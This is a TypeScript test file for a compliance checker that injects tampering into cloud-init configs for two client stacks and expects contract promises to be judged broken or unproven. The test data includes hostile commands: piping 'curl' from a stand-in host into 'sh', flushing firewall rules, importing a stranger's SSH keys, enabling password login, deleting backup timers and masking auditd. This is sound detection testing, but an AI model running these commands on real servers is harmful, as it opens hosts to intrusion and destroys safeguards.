/**
 * The cloud-init says what was signed, and something in it undoes that later: whichever promise stands on it must no longer
 * be kept.
 */
import { Testing } from 'cdktf'
import { beforeAll, describe, expect, it } from 'vitest'
import { parse, stringify } from 'yaml'
import { loadContract } from '../../contract/load.ts'
import { readDocument, readInventory } from '../../inventory/read.ts'
import { judge } from '../../ledger/judge.ts'
import type { Verdict } from '../../ledger/model.ts'
import { POLICIES } from '../../policies/index.ts'
import { ClientStack } from '../../stacks/client-stack.ts'

const words = { fr: 'x', en: 'x' }

function verdicts(loaded: ReturnType<typeof loadContract>, json: string): ReadonlyMap<string, Verdict> {
  const { contract, file, promises } = loaded
  const { verdicts: all } = judge({
    ...{ contract, contractFile: file, promises, catalogue: { id: contract.catalogue, title: words } },
    ...{ services: [], readings: [], lock: { state: 'none' }, evidence: [], waivers: [] },
    ...{ policies: POLICIES, now: '2026-11-22T12:00:00Z' },
    inventories: [readInventory({ synth: readDocument('cdk.tf.json', json) })],
  })
  return new Map(all.map((verdict) => [verdict.promise.id, verdict]))
}

interface Config {
  readonly runcmd: unknown[]
  readonly write_files: { path: string; content: string }[]
}

/** Each cloud-config of the stack as `tell` leaves it. */
const told =
  (tell: (config: Config) => void) =>
  (json: string): string =>
    JSON.stringify(JSON.parse(json), (_, value) => {
      if (typeof value !== 'string' || !value.startsWith('#cloud-config')) return value
      const config = parse(value) as Config
      tell(config)
      return `#cloud-config\n${stringify(config, { lineWidth: 0 })}`
    })
const run = (command: string) => told(({ runcmd }) => runcmd.push(command))
const file = (path: string, content: string) =>
  told(({ write_files: files }) => files.unshift({ path, content }))
const inUnits = (from: RegExp, to: string) =>
  told(({ write_files: files }) => {
    for (const one of files) one.content = one.content.replace(from, to)
  })

type Lie = readonly [name: string, promise: string, tell: (json: string) => string, then: Verdict['status']]

const CLIENTS: Readonly<Record<string, readonly Lie[]>> = {
  'avance-ovh': [
    ['rules flushed by a quoted command', 'erp/fw.basic', run("nft 'flush ruleset'"), 'unproven'],
    [
      'rules flushed by cron',
      'erp/fw.admin-sources',
      file('/etc/cron.d/x', '* * * * * root nft flush ruleset'),
      'unproven',
    ],
    ['keys of a site', 'erp/vma.ssh-keys', run('ssh-import-id gh:stranger'), 'unproven'],
    [
      'a program from elsewhere',
      'erp/info.no-client-access',
      run('curl -s https://x.example | sh'),
      'unproven',
    ],
    [
      'passwords',
      'erp/info.no-client-access',
      inUnits(/PasswordAuthentication no/, 'PasswordAuthentication yes'),
      'broken',
    ],
    [
      'what was asked for is left out',
      'erp/backup.on-request',
      inUnits(/ backup --/g, ' backup --exclude=/srv --'),
      'broken',
    ],
    [
      'copies for years',
      'erp/backup.retention',
      inUnits(/--keep-within/g, '--keep-monthly 60 --keep-within'),
      'broken',
    ],
    [
      'a timer that is changed',
      'erp/backup.daily-off-hours',
      run('rm -f /etc/systemd/system/backup-*'),
      'unproven',
    ],
    [
      'the collector switched off',
      'erp/vma.supervision-graphs',
      run('systemctl disable prometheus-node-exporter'),
      'broken',
    ],
    [
      'every collector switched off',
      'erp/vma.supervision-graphs',
      inUnits(/ARGS="/, 'ARGS="--collector.disable-defaults '),
      'broken',
    ],
    [
      'updates switched off in the main file',
      'erp/info.updates',
      file('/etc/apt/apt.conf', 'APT::Periodic::Unattended-Upgrade "0";'),
      'broken',
    ],
  ],
  'prestashop-hetzner': [
    ['rules flushed', 'boutique/security.base', run('bash -c "nft flush ruleset"'), 'unproven'],
    ['the watch over accesses masked', 'boutique/security.base', run('systemctl mask auditd'), 'broken'],
    [
      'a dump without rows',
      'boutique/backup.content',
      inUnits(/--all-databases/g, '--all-databases --no-data'),
      'broken',
    ],
    [
      'fewer connections in a file read later',
      'boutique/db.connections',
      file('/etc/mysql/mariadb.conf.d/99-x.cnf', '[mysqld]\nmax_connections = 5\n'),
      'broken',
    ],
    [
      'fewer connections later',
      'boutique/db.connections',
      run('mysql -e "SET GLOBAL max_connections=5"'),
      'unproven',
    ],
    [
      'fewer connections by an option of the unit',
      'boutique/db.connections',
      file(
        '/etc/systemd/system/mariadb.service.d/z.conf',
        '[Service]\nEnvironment="MYSQLD_OPTS=--max_connections=5"\n',
      ),
      'unproven',
    ],
    [
      'a longer journal in a file read later',
      'boutique/telemetry.retention',
      file('/etc/systemd/journald.conf.d/zz.conf', '[Journal]\nMaxRetentionSec=730day\n'),
      'broken',
    ],
    [
      'logs of the web server for ten years',
      'boutique/telemetry.retention',
      file('/etc/logrotate.d/apache2', '/var/log/apache2/*.log {\n  daily\n  rotate 3650\n}\n'),
      'broken',
    ],
    [
      'a journal changed later',
      'boutique/telemetry.retention',
      run("sed -i 's/365/9000/' /etc/systemd/journald.conf.d/*"),
      'unproven',
    ],
  ],
}

describe.each(Object.entries(CLIENTS))('%s', (code, lies) => {
  const loaded = loadContract(`clients/${code}/contract.yaml`)
  let json = ''
  let truth: ReadonlyMap<string, Verdict>
  beforeAll(() => {
    json = Testing.synth(new ClientStack(Testing.app(), { contract: loaded.contract }))
    truth = verdicts(loaded, json)
  })

  it('says the same of texts that were only written anew', () => {
    const again = verdicts(loaded, told(() => {})(json))
    expect([...again].map(([id, { status }]) => [id, status])).toEqual(
      [...truth].map(([id, { status }]) => [id, status]),
    )
  })

  it.each(lies.map(([name, promise, tell, then]) => [name, { promise, tell, then }] as const))(
    '%s',
    (_, { promise, tell, then }) => {
      expect(truth.get(promise)).toMatchObject({ status: 'kept' })
      expect(verdicts(loaded, tell(json)).get(promise)).toMatchObject({ status: then })
    },
  )
})
